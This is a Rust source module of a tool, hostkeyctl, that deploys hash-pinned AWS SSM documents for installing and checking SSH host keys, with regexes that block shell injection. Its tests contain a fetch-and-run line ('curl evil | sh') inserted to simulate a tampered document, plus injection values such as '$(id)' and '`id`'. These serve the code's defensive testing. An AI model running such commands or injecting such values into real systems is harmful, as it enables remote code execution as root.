//! hostkeyctl's own SSM Command documents: one can only run
//! `hostkeyctl install` with typed parameters, the other only the read-only
//! `hostkeyctl install --check`.
//!
//! `AWS-RunShellScript` runs any shell line as root, so a role that may send
//! it has root on every node it targets. These documents run one program
//! with parameters whose `allowedPattern` admits only their grammar (a
//! secret name or ARN, a UUID, SHA256 fingerprints, a region): no quote,
//! space, `;`, `$` or newline can reach the shell on any SSM Agent version,
//! and the values are single-quoted in the script as well.
//!
//! A document is trusted by its content, never by its name: anyone who may
//! update a document named `hostkeyctl-Install` could otherwise make the
//! next routine push run anything as root on every node. So `push`,
//! `rotate` and `audit --via-ssm` read the default version's SHA-256
//! (`DescribeDocument`), refuse one that is not the document this binary
//! deploys, and send exactly that version ([`resolve`]).

use std::collections::BTreeMap;

use aws_sdk_ssm::types::{DocumentFormat, DocumentType};
use serde_json::json;

use crate::aws::{AwsError, Call};
use crate::ids::{Program, Region};
use crate::store::StoredVersion;

/// The install document's default name.
pub const DEFAULT_NAME: &str = "hostkeyctl-Install";
/// The check document's default name (`audit --via-ssm`).
pub const CHECK_NAME: &str = "hostkeyctl-Check";
/// The shell document push falls back to (explicitly, or when hostkeyctl's
/// own is not deployed).
pub const RUN_SHELL_SCRIPT: &str = "AWS-RunShellScript";

const UUID: &str = "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}";
const FINGERPRINT: &str = "SHA256:[A-Za-z0-9+/]{43}";

/// Which of hostkeyctl's documents.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    /// `hostkeyctl install` of one version (push, rotate).
    Install,
    /// `hostkeyctl install --check --expect ...`, which changes nothing
    /// (`audit --via-ssm`).
    Check,
}

impl Kind {
    /// The name it is deployed under by default.
    pub fn default_name(self) -> &'static str {
        match self {
            Kind::Install => DEFAULT_NAME,
            Kind::Check => CHECK_NAME,
        }
    }
}

/// `allowedPattern` of each parameter.
pub fn patterns() -> BTreeMap<&'static str, String> {
    let fps = format!("{FINGERPRINT}(,{FINGERPRINT}){{0,2}}");
    let check_fps = format!("{FINGERPRINT}(,{FINGERPRINT}){{0,7}}");
    BTreeMap::from([
        (
            "SecretId",
            "^(arn:aws[a-z-]*:secretsmanager:[a-z]{2}(-[a-z]+)+-[0-9]:[0-9]{12}:secret:)?[A-Za-z0-9/_+=.@-]{1,512}$"
                .to_owned(),
        ),
        ("VersionId", format!("^{UUID}$")),
        ("Expect", format!("^{fps}$")),
        ("NextVersionId", format!("^$|^{UUID}$")),
        ("ExpectNext", format!("^$|^{fps}$")),
        ("Region", "^$|^[a-z]{2}(-[a-z]+)+-[0-9]$".to_owned()),
        ("CheckExpect", format!("^{check_fps}$")),
    ])
}

/// A document's content (JSON), byte-stable for the same node command.
pub fn content(kind: Kind, node_command: &Program) -> String {
    match kind {
        Kind::Install => install_content(node_command),
        Kind::Check => check_content(node_command),
    }
}

/// The check document: `install --check` against the given fingerprints,
/// which reads no secret and writes nothing.
fn check_content(node_command: &Program) -> String {
    let p = patterns();
    let doc = json!({
        "schemaVersion": "2.2",
        "description": "hostkeyctl: report whether this node's SSH host keys, on disk and served, are the given set (hostkeyctl install --check). Reads no secret, changes nothing. Runs nothing else.",
        "parameters": {
            "Expect": {
                "type": "String",
                "description": "The expected fingerprints, comma-separated.",
                "allowedPattern": p["CheckExpect"],
            },
        },
        "mainSteps": [{
            "action": "aws:runShellScript",
            "name": "check",
            "inputs": {
                "timeoutSeconds": "120",
                "runCommand": [
                    "set -eu",
                    format!(
                        "exec {} install --check --quiet --expect='{{{{ Expect }}}}'",
                        crate::shell::quote(node_command.as_str()).unwrap_or_default()
                    ),
                ],
            },
        }],
    });
    let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    text.push('\n');
    text
}

/// The install document.
fn install_content(node_command: &Program) -> String {
    let p = patterns();
    let doc = json!({
        "schemaVersion": "2.2",
        "description": "hostkeyctl: install the canonical SSH host keys of one Secrets Manager version on this node (hostkeyctl install), verify them and roll back on failure. Runs nothing else.",
        "parameters": {
            "SecretId": {
                "type": "String",
                "description": "The secret holding the key sets (name or ARN).",
                "allowedPattern": p["SecretId"],
            },
            "VersionId": {
                "type": "String",
                "description": "The version to serve (AWSCURRENT when push read the stages).",
                "allowedPattern": p["VersionId"],
            },
            "Expect": {
                "type": "String",
                "description": "The set's fingerprints, comma-separated: the node refuses any other set.",
                "allowedPattern": p["Expect"],
            },
            "NextVersionId": {
                "type": "String",
                "description": "An announced next version (AWSPENDING), served as extra host keys; empty for none.",
                "default": "",
                "allowedPattern": p["NextVersionId"],
            },
            "ExpectNext": {
                "type": "String",
                "description": "The next set's fingerprints, comma-separated; empty for none.",
                "default": "",
                "allowedPattern": p["ExpectNext"],
            },
            "Region": {
                "type": "String",
                "description": "The region the secret is read in; empty for the node's own.",
                "default": "",
                "allowedPattern": p["Region"],
            },
        },
        "mainSteps": [{
            "action": "aws:runShellScript",
            "name": "install",
            "inputs": {
                "timeoutSeconds": "600",
                "runCommand": [
                    "set -eu",
                    "set -- install --quiet --secret-id='{{ SecretId }}' --version-id='{{ VersionId }}' --expect='{{ Expect }}'",
                    "next='{{ NextVersionId }}'; expect_next='{{ ExpectNext }}'; region='{{ Region }}'",
                    "if [ -n \"$next\" ]; then set -- \"$@\" --next-version-id=\"$next\"; fi",
                    "if [ -n \"$expect_next\" ]; then set -- \"$@\" --expect-next=\"$expect_next\"; fi",
                    "if [ -n \"$region\" ]; then set -- \"$@\" --region=\"$region\"; fi",
                    format!("exec {} \"$@\"", crate::shell::quote(node_command.as_str()).unwrap_or_default()),
                ],
            },
        }],
    });
    let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    text.push('\n');
    text
}

/// The parameters that install `version` (and `next` as extra keys).
pub fn parameters(
    version: &StoredVersion,
    next: Option<&StoredVersion>,
    region: Option<&Region>,
) -> BTreeMap<String, Vec<String>> {
    let fps = |v: &StoredVersion| {
        v.document
            .keys
            .keys()
            .map(|k| k.fingerprint().to_string())
            .collect::<Vec<_>>()
            .join(",")
    };
    let mut out = BTreeMap::from([
        ("SecretId".to_owned(), vec![version.arn.to_string()]),
        ("VersionId".to_owned(), vec![version.version_id.to_string()]),
        ("Expect".to_owned(), vec![fps(version)]),
    ]);
    if let Some(next) = next {
        out.insert("NextVersionId".to_owned(), vec![next.version_id.to_string()]);
        out.insert("ExpectNext".to_owned(), vec![fps(next)]);
    }
    if let Some(region) = region {
        out.insert("Region".to_owned(), vec![region.to_string()]);
    }
    out
}

/// The parameters of the check document for these fingerprints.
pub fn check_parameters(expect: &[&crate::fingerprint::Fingerprint]) -> BTreeMap<String, Vec<String>> {
    let fps: Vec<String> = expect.iter().map(ToString::to_string).collect();
    BTreeMap::from([("Expect".to_owned(), vec![fps.join(",")])])
}

/// The SHA-256 of a document's content, as `DescribeDocument` reports it
/// (and `sha256sum` of `hostkeyctl ssm-document print` shows).
pub fn sha256_hex(text: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

/// What `DescribeDocument` says of a document's default version.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Deployed {
    /// The version described: the default one.
    pub version: String,
    /// Its hash, lowercase hex.
    pub hash: String,
    /// `Sha256` or `Sha1` (older documents).
    pub hash_type: String,
    /// The latest version's number (versions count up from 1).
    pub latest: Option<String>,
}

impl Deployed {
    /// Whether its content is `text`.
    pub fn holds(&self, text: &str) -> bool {
        let computed = match self.hash_type.as_str() {
            "Sha1" => {
                use sha1::Digest;
                hex::encode(sha1::Sha1::digest(text.as_bytes()))
            }
            _ => sha256_hex(text),
        };
        self.hash.eq_ignore_ascii_case(&computed)
    }
}

/// The default version of document `name` and its hash, or `None` when the
/// document does not exist.
pub async fn describe(client: &aws_sdk_ssm::Client, name: &str) -> Result<Option<Deployed>, AwsError> {
    let call = Call::new("ssm:DescribeDocument", format!("document {name}"));
    match client.describe_document().name(name).send().await {
        Ok(out) => {
            let Some(d) = out.document() else { return Ok(None) };
            // Without a version, DescribeDocument describes the default one.
            let version = d
                .document_version()
                .or_else(|| d.default_version())
                .unwrap_or_default()
                .to_owned();
            Ok(Some(Deployed {
                version,
                hash: d.hash().unwrap_or_default().to_owned(),
                hash_type: d
                    .hash_type()
                    .map_or_else(|| "Sha256".to_owned(), |t| t.as_str().to_owned()),
                latest: d.latest_version().map(str::to_owned),
            }))
        }
        Err(e) => match AwsError::from_sdk(e, &call) {
            AwsError::NotFound { .. } => Ok(None),
            AwsError::Service { code, .. } if code == "InvalidDocument" => Ok(None),
            other => Err(other),
        },
    }
}

/// How a document to send was trusted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Trust {
    /// Its content is the one this binary deploys.
    Pinned,
    /// Named with `--document`: the operator's own, sent as it is (its hash
    /// is in the report).
    Custom,
    /// `AWS-RunShellScript`: any command as root.
    Shell,
}

/// The document a command goes out with, settled before anything is sent.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct SentDocument {
    /// Its name.
    pub name: String,
    /// The version sent (none for `AWS-RunShellScript`).
    pub version: Option<String>,
    /// That version's hash (lowercase hex), as SSM reported it.
    pub sha256: Option<String>,
    /// Why it was trusted.
    pub trust: Trust,
}

impl SentDocument {
    /// `AWS-RunShellScript`.
    pub fn shell() -> Self {
        SentDocument {
            name: RUN_SHELL_SCRIPT.to_owned(),
            version: None,
            sha256: None,
            trust: Trust::Shell,
        }
    }
}

impl std::fmt::Display for SentDocument {
    /// For people: name, version, hash, and why it was trusted.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "SSM document {}", crate::output::escape(&self.name))?;
        if let Some(version) = &self.version {
            write!(f, " version {}", crate::output::escape(version))?;
        }
        if let Some(hash) = &self.sha256 {
            write!(f, " (SHA-256 {})", crate::output::escape(hash))?;
        }
        f.write_str(match self.trust {
            Trust::Pinned => ", hostkeyctl's own",
            Trust::Custom => ", a custom document",
            Trust::Shell => ", the shell document: any command as root",
        })
    }
}

/// Why a document cannot be sent.
#[derive(Debug, thiserror::Error)]
pub enum ResolveError {
    /// SSM refused or could not be reached.
    #[error(transparent)]
    Aws(#[from] AwsError),
    /// hostkeyctl's document by name holds other content.
    #[error(
        "SSM document {name} (default version {version}, {hash_type} {found}) is not the document this hostkeyctl deploys with --node-command {node_command} (SHA-256 {expected}); nothing was sent. Someone changed it, or another hostkeyctl or --node-command deployed it: compare it with `hostkeyctl ssm-document print{kind_flag}` and redeploy with `hostkeyctl ssm-document deploy`, or send a deliberate custom document with {option} NAME"
    )]
    Tampered {
        /// The document.
        name: String,
        /// Its default version.
        version: String,
        /// The hash SSM reported.
        found: String,
        /// Its type.
        hash_type: String,
        /// The hash of this binary's document.
        expected: String,
        /// The node command the content was built for.
        node_command: String,
        /// ` --kind check` for the check document.
        kind_flag: &'static str,
        /// The option that names a custom document.
        option: &'static str,
    },
    /// A custom document that does not exist.
    #[error(
        "SSM document {0} does not exist in this account and region; deploy it with `hostkeyctl ssm-document deploy --name {0}`, or pass --document {RUN_SHELL_SCRIPT}"
    )]
    Missing(String),
}

/// Settles the document to send as `name` (`None`: not deployed, which
/// only hostkeyctl's default names may be; the caller decides). Only what
/// DescribeDocument reports of the default version is trusted, and that
/// version is what gets sent: an update after this call changes nothing.
pub async fn resolve(
    client: &aws_sdk_ssm::Client,
    name: &str,
    kind: Kind,
    node_command: &Program,
) -> Result<Option<SentDocument>, ResolveError> {
    if name == RUN_SHELL_SCRIPT {
        return Ok(Some(SentDocument::shell()));
    }
    let ours = content(kind, node_command);
    let Some(deployed) = describe(client, name).await? else {
        return if name == kind.default_name() {
            Ok(None)
        } else {
            Err(ResolveError::Missing(crate::output::escape(name)))
        };
    };
    let trust = if deployed.holds(&ours) {
        Trust::Pinned
    } else if name == kind.default_name() {
        return Err(ResolveError::Tampered {
            name: name.to_owned(),
            version: crate::output::escape(&deployed.version),
            found: crate::output::escape(&deployed.hash),
            hash_type: crate::output::escape(&deployed.hash_type),
            expected: sha256_hex(&ours),
            node_command: node_command.to_string(),
            kind_flag: if kind == Kind::Check { " --kind check" } else { "" },
            option: if kind == Kind::Check {
                "--check-document"
            } else {
                "--document"
            },
        });
    } else {
        Trust::Custom
    };
    Ok(Some(SentDocument {
        name: name.to_owned(),
        version: Some(deployed.version),
        sha256: Some(deployed.hash),
        trust,
    }))
}

/// Creates the document, or makes a version with this binary's content its
/// default: a new version, or, when one already holds it (SSM refuses a
/// second version with the same content: `DuplicateDocumentContent`), that
/// one, as after a tampered default is put right. Returns the default
/// version and what was done. Compares hashes only, so it needs no
/// `ssm:GetDocument`.
pub async fn deploy(
    client: &aws_sdk_ssm::Client,
    name: &str,
    kind: Kind,
    node_command: &Program,
) -> Result<(String, &'static str), AwsError> {
    let text = content(kind, node_command);
    let Some(current) = describe(client, name).await? else {
        let call = Call::new("ssm:CreateDocument", format!("document {name}"));
        let out = client
            .create_document()
            .name(name)
            .content(&text)
            .document_type(DocumentType::Command)
            .document_format(DocumentFormat::Json)
            .send()
            .await
            .map_err(|e| AwsError::from_sdk(e, &call))?;
        let version = out
            .document_description()
            .and_then(|d| d.document_version())
            .unwrap_or("1")
            .to_owned();
        return Ok((version, "created"));
    };
    if current.holds(&text) {
        return Ok((current.version, "unchanged"));
    }
    let call = Call::new("ssm:UpdateDocument", format!("document {name}"));
    let updated = client
        .update_document()
        .name(name)
        .content(&text)
        .document_version("$LATEST")
        .document_format(DocumentFormat::Json)
        .send()
        .await
        .map_err(|e| AwsError::from_sdk(e, &call));
    let (version, done) = match updated {
        Ok(out) => (
            out.document_description()
                .and_then(|d| d.document_version())
                .unwrap_or_default()
                .to_owned(),
            "updated",
        ),
        Err(AwsError::Service { code, .. }) if code == "DuplicateDocumentContent" => {
            (version_holding(client, name, &current, &text).await?, "restored")
        }
        Err(e) => return Err(e),
    };
    let call = Call::new("ssm:UpdateDocumentDefaultVersion", format!("document {name}"));
    client
        .update_document_default_version()
        .name(name)
        .document_version(&version)
        .send()
        .await
        .map_err(|e| AwsError::from_sdk(e, &call))?;
    Ok((version, done))
}

/// The version of `name` whose content is `text` (SSM said one exists):
/// versions are numbered from 1 to the latest, newest tried first.
async fn version_holding(
    client: &aws_sdk_ssm::Client,
    name: &str,
    current: &Deployed,
    text: &str,
) -> Result<String, AwsError> {
    let latest: u64 = current.latest.as_deref().and_then(|v| v.parse().ok()).unwrap_or(0);
    for version in (1..=latest).rev().map(|v| v.to_string()) {
        let call = Call::new("ssm:DescribeDocument", format!("document {name} version {version}"));
        let described = match client
            .describe_document()
            .name(name)
            .document_version(&version)
            .send()
            .await
        {
            Ok(out) => out,
            Err(e) => match AwsError::from_sdk(e, &call) {
                // A deleted version.
                AwsError::NotFound { .. } => continue,
                AwsError::Service { code, .. } if code == "InvalidDocument" || code == "InvalidDocumentVersion" => {
                    continue;
                }
                other => return Err(other),
            },
        };
        let Some(d) = described.document() else { continue };
        let deployed = Deployed {
            version,
            hash: d.hash().unwrap_or_default().to_owned(),
            hash_type: d
                .hash_type()
                .map_or_else(|| "Sha256".to_owned(), |t| t.as_str().to_owned()),
            latest: None,
        };
        if deployed.holds(text) {
            return Ok(deployed.version);
        }
    }
    Err(AwsError::Service {
        action: "ssm:UpdateDocument",
        resource: format!("document {name}"),
        code: "DuplicateDocumentContent".to_owned(),
        message: format!(
            "SSM says a version of {} already holds this content, but none of versions 1 to {latest} does; deploy under another --name",
            crate::output::escape(name)
        ),
    })
}

#[cfg(test)]
mod tests {
    use super::{Deployed, Kind, content, patterns, sha256_hex};
    use crate::ids::Program;

    #[test]
    fn a_deployed_document_is_ours_only_by_its_hash() {
        let program = Program::parse("hostkeyctl").unwrap();
        let ours = content(Kind::Install, &program);
        let deployed = |hash: String, hash_type: &str| Deployed {
            version: "1".to_owned(),
            hash,
            hash_type: hash_type.to_owned(),
            latest: None,
        };
        assert!(deployed(sha256_hex(&ours), "Sha256").holds(&ours));
        assert!(deployed(sha256_hex(&ours).to_uppercase(), "Sha256").holds(&ours));
        let tampered = ours.replace("set -eu", "set -eu\ncurl evil | sh");
        assert!(!deployed(sha256_hex(&tampered), "Sha256").holds(&ours));
        // Another node command is another document.
        let other = content(Kind::Install, &Program::parse("/opt/bin/hostkeyctl").unwrap());
        assert!(!deployed(sha256_hex(&other), "Sha256").holds(&ours));
        assert!(!deployed(String::new(), "Sha256").holds(&ours));
        assert_ne!(content(Kind::Check, &program), ours);
        assert_eq!(
            sha256_hex("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn the_check_document_runs_only_a_check() {
        let program = Program::parse("hostkeyctl").unwrap();
        let doc: serde_json::Value = serde_json::from_str(&content(Kind::Check, &program)).unwrap();
        let params: Vec<&String> = doc["parameters"].as_object().unwrap().keys().collect();
        assert_eq!(params, ["Expect"]);
        let lines = doc["mainSteps"][0]["inputs"]["runCommand"].as_array().unwrap();
        assert_eq!(lines.len(), 2);
        assert_eq!(
            lines[1],
            "exec hostkeyctl install --check --quiet --expect='{{ Expect }}'"
        );
    }

    #[test]
    fn the_document_is_byte_stable_and_its_patterns_admit_only_the_grammar() {
        let program = Program::parse("hostkeyctl").unwrap();
        assert_eq!(content(Kind::Install, &program), content(Kind::Install, &program));
        let p = patterns();
        let matches = |name: &str, value: &str| {
            let re = regex_lite::Regex::new(&format!("^(?:{})$", p[name])).unwrap();
            re.is_match(value)
        };
        assert!(matches("SecretId", "hostkeys/my-cluster"));
        assert!(matches(
            "SecretId",
            "arn:aws:secretsmanager:us-east-1:123456789012:secret:hostkeys/hp-AbCdEf"
        ));
        for bad in ["a;b", "$(id)", "a b", "a'b", "a\nb", "", "`id`"] {
            assert!(!matches("SecretId", bad), "{bad:?} passed");
        }
        assert!(matches("VersionId", "0f8e5c1a-3b6d-4c2e-9a7f-1d2e3f4a5b6c"));
        assert!(!matches("VersionId", "0f8e5c1a-3b6d-4c2e-9a7f-1d2e3f4a5b6c;x"));
        let fp = "SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
        assert!(matches("Expect", &format!("{fp},{fp},{fp}")));
        assert!(!matches("Expect", ""));
        assert!(matches("ExpectNext", ""));
        assert!(matches("Region", "eu-west-1"));
        assert!(!matches("Region", "eu-west-1 x"));
    }
}
